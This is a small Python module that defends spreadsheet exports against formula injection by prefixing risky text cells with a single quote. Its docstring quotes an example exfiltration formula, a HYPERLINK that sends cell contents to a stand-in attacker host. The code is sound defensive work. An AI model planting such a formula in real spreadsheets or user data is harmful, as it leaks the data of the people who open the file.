"""Cells for every CSV and XLSX file Storybridge writes: the one place formulas are neutralised.

A spreadsheet program runs a cell that starts with `=`, `+`, `-`, `@` (or a tab or carriage
return before one of them) as a formula, so a narrative title or an organisation name typed as
`=HYPERLINK("https://evil.example/?"&A1)` would leak the sheet when an educator opens an export.
OWASP's advice, followed here: prefix such text with a single quote, which spreadsheet programs
show as text and do not evaluate. Numbers, dates and None pass through unchanged, so negative
numbers stay numbers.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value):
    """`value` as it may go into a spreadsheet cell: text that a spreadsheet would evaluate is
    prefixed with a single quote; anything that is not text is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(values):
    """A row (any iterable of cell values) with every cell neutralised, as a list."""
    return [neutralise(value) for value in values]
